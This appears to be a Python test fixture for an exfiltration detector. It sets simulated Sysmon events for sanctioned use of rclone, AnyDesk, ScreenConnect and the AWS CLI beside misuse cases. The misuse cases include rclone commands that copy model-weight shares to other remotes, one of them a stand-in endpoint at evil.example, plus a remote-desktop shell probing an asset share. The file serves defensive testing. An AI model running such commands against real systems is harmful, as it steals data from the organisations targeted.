"""Days at Kestrel Bay: ordinary work with sanctioned tools, and the same machines and programs misused."""

from __future__ import annotations

from detector.model.hit import Hit
from detector.model.rule import Action, Phase
from tests.making import (
    SYSMON,
    SYSTEM,
    T0,
    after,
    event,
    hit,
    logon,
    move_rule,
    process,
    rule,
    share_read,
)

NIGHT = after(12)  # 22:00 in Berlin
INTUNE = "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe"
CELL = "C:\\Program Files (x86)\\AnyDesk-1234abcd\\AnyDesk-1234abcd.exe"
SERVICE = "NT AUTHORITY\\SYSTEM"
DESK_CLIENT = "C:\\Program Files (x86)\\ScreenConnect Client (00aa11bb22cc33dd)\\ScreenConnect.ClientService.exe"
JOB = (
    '"C:\\Program Files\\Kestrel\\rclone.exe" sync \\\\weights-1\\runs coldstore:runs'
    " --config C:\\ProgramData\\Kestrel\\nightly.conf --transfers 8"
)

INSTALL = rule("anydesk", Phase.INSTALL, Action.INSTALL)
CONNECT = rule("anydesk", Phase.SESSION, Action.CONNECT)
DESK_SESSION = rule("screenconnect", Phase.SESSION, Action.SESSION)
DESK_COMMAND = rule("screenconnect", Phase.COMMAND, Action.COMMAND)
DESK_CONNECT = rule("screenconnect", Phase.SESSION, Action.CONNECT)
COPY = rule("rclone", Phase.EXFILTRATION, Action.UPLOAD)
RUNNING = rule("rclone", Phase.TRANSFER, Action.CONNECT)
AWS = rule("aws-cli", Phase.EXFILTRATION, Action.UPLOAD)
LOGON, RDP, READ = move_rule("logon"), move_rule("rdp"), move_rule("smb", Phase.COLLECTION)


def connects(
    host: str, image: str, to: str, name: str, port: str = "443", *, guid: str = "{1}", user: str = SERVICE
) -> Hit:
    of = (
        RUNNING
        if image.endswith("rclone.exe")
        else AWS
        if "aws" in image
        else CONNECT
        if "AnyDesk" in image
        else DESK_CONNECT
    )
    shown = {
        "Image": image,
        "DestinationIp": to,
        "DestinationHostname": name,
        "DestinationPort": port,
        "ProcessGuid": guid,
    }
    when = NIGHT if image.endswith("rclone.exe") and host == "COPIER-1" else T0
    return hit(of, event(SYSMON, 3, host, when, Initiated="true", User=user, **shown))


def said(host: str, data: str, when: float = 0, instance: str = "00aa11bb22cc33dd") -> Hit:
    return hit(DESK_SESSION, event(f"ScreenConnect Client ({instance})", 100, host, after(when), Data=data))


def shell(host: str, command: str, when: float = 0) -> Hit:
    on = process(
        host, "C:\\Windows\\System32\\cmd.exe", command, "NT AUTHORITY\\SYSTEM", after(when), ParentImage=DESK_CLIENT
    )
    return hit(DESK_COMMAND, on)


def copies(
    command: str, host: str = "COPIER-1", user: str = "KESTREL\\svc.copy", guid: str = "{1}", of: object = COPY
) -> Hit:
    image = (
        "C:\\Program Files\\Kestrel\\rclone.exe" if "Kestrel" in command else "C:\\Users\\ada\\Downloads\\rclone.exe"
    )
    when = NIGHT if host == "COPIER-1" else T0
    assert of in (COPY, RUNNING)
    on = process(host, image, command, user, when, ProcessGuid=guid, OriginalFileName="rclone.exe")
    return hit(COPY if of is COPY else RUNNING, on)


#: Ordinary days with sanctioned tools: nothing may be raised, and each clause is named.
HONEST: dict[str, tuple[list[Hit], set[str]]] = {
    "the help desk at work": (
        [
            connects("KB-L001", DESK_CLIENT, "203.0.113.5", "support.kestrel.example", "8041"),
            said("KB-L001", "ivy Connected", 0.1),
            shell("KB-L001", "cmd.exe /c ipconfig /all", 0.2),
            said("KB-L001", "ivy Disconnected", 0.3),
        ],
        {"sc-desk"},
    ),
    "the help desk runs something about the registry server": (
        [said("KB-L001", "ivy Connected"), shell("KB-L001", "type infer-2.log")],
        {"sc-desk"},
    ),
    "a cell is set up by Intune": (
        [
            hit(
                INSTALL,
                process(
                    "CELL-3",
                    "C:\\Windows\\IMECache\\7\\AnyDesk-1234abcd.exe",
                    f'"C:\\Windows\\IMECache\\7\\AnyDesk-1234abcd.exe" --install "{CELL[:-24]}" --silent',
                    "NT AUTHORITY\\SYSTEM",
                    ParentImage=INTUNE,
                    Company="AnyDesk Software GmbH",
                ),
            ),
            hit(
                INSTALL,
                event(
                    SYSTEM,
                    7045,
                    "CELL-3",
                    after(seconds=9),
                    ServiceName="AnyDesk-1234abcd Service",
                    ImagePath=f'"{CELL}" --service',
                ),
            ),
            connects("CELL-3", CELL, "203.0.113.45", "relay-4e02c7d9.net.anydesk.example"),
        ],
        {"anydesk-cells"},
    ),
    "the nightly copy": (
        [
            copies(JOB),
            copies(JOB, of=RUNNING),
            connects(
                "COPIER-1",
                "C:\\Program Files\\Kestrel\\rclone.exe",
                "203.0.113.9",
                "objects.coldstore.example",
                user="KESTREL\\svc.copy",
            ),
            hit(READ, share_read("WEIGHTS-1", "192.0.2.20", "svc.copy", "runs", when=NIGHT)),
            hit(LOGON, logon("WEIGHTS-1", "192.0.2.20", "svc.copy", NIGHT)),
        ],
        {"rclone-nightly", "bulk-copy"},
    ),
    "open data is fetched": (
        [
            copies(
                "rclone.exe copy -P opendata:grasp-2k D:\\tune\\data\\grasp-2k --transfers 8", "KB-G012", "KESTREL\\ada"
            ),
            copies(
                "rclone.exe copy -P opendata:grasp-2k D:\\tune\\data\\grasp-2k", "KB-G012", "KESTREL\\ada", of=RUNNING
            ),
            connects(
                "KB-G012",
                "C:\\Users\\ada\\Downloads\\rclone.exe",
                "203.0.113.12",
                "mirror.opendata.example",
                user="KESTREL\\ada",
            ),
        ],
        {"rclone-open"},
    ),
    "a release": (
        [
            hit(
                AWS,
                process(
                    "COPIER-1",
                    "C:\\aws\\aws.exe",
                    "aws s3 cp D:\\rel s3://kestrel-releases/v1/ --recursive --endpoint-url https://s3.example",
                    "KESTREL\\svc.release",
                    ProcessGuid="{9}",
                ),
            ),
            connects(
                "COPIER-1", "C:\\aws\\aws.exe", "203.0.113.210", "s3.example", guid="{9}", user="KESTREL\\svc.release"
            ),
        ],
        {"aws-release"},
    ),
    "an administrator by the gate": (
        [
            hit(RDP, logon("HOP-1", "198.51.100.12", "ada", kind="10")),
            hit(RDP, logon("WEIGHTS-1", "192.0.2.8", "ada.adm", kind="10")),
        ],
        {"hop-in", "hop-out"},
    ),
}


def evil(command: str, user: str = "KESTREL\\gale") -> Hit:
    return copies(command, user=user, guid="{2}")


#: The same machines and programs, misused: one key differs, and it goes to or from an asset.
ABUSE: dict[str, tuple[list[Hit], tuple[str, ...], tuple[str, ...]]] = {
    "the job's program by another account": ([copies(JOB), evil(JOB)], ("COPIER-1",), ("WEIGHTS-1",)),
    "its account, another share": (
        [copies(JOB), evil(JOB.replace("\\runs", "\\models$"), "KESTREL\\svc.copy")],
        ("COPIER-1",),
        ("WEIGHTS-1",),
    ),
    "its account, another remote": (
        [copies(JOB), evil(JOB.replace("coldstore:", "sx:"), "KESTREL\\svc.copy")],
        ("COPIER-1",),
        ("WEIGHTS-1",),
    ),
    "its account, the remote led elsewhere": (
        [evil(JOB.replace("coldstore:", "coldstore,endpoint=evil.example:"), "KESTREL\\svc.copy")],
        ("COPIER-1",),
        ("WEIGHTS-1",),
    ),
    "switches before the source": (
        [evil("rclone copy --s3-upload-concurrency 8 --fast-list \\\\?\\UNC\\strongroom\\models$ sx:w")],
        ("COPIER-1",),
        ("WEIGHTS-1",),
    ),
    "a desk's own models go out": (
        [copies("rclone.exe copy D:\\tune\\aurora opendata:x", "KB-G012", "KESTREL\\ada")],
        ("KB-G012",),
        ("KB-G012",),
    ),
    "both ways": (
        [copies("rclone.exe bisync opendata:x D:\\tune\\aurora", "KB-G012", "KESTREL\\ada")],
        ("KB-G012",),
        ("KB-G012",),
    ),
    "the help desk's tool at an asset's share": (
        [said("KB-L001", "ivy Connected"), shell("KB-L001", "cmd /c dir \\\\weights-1\\models$", 0.1)],
        ("KB-L001",),
        ("WEIGHTS-1",),
    ),
    "a foreign tenant": (
        [
            said("KB-L001", "ivy Connected", instance="ffff000011112222"),
            hit(LOGON, logon("WEIGHTS-1", "198.51.100.11", "ada", after(1))),
        ],
        ("KB-L001",),
        ("WEIGHTS-1",),
    ),
    "let in on the asset itself": (
        [hit(INSTALL, event(SYSTEM, 7045, "INFER-2", ImagePath='"C:\\Windows\\Temp\\AnyDesk.exe" --service'))],
        ("INFER-2",),
        ("INFER-2",),
    ),
}
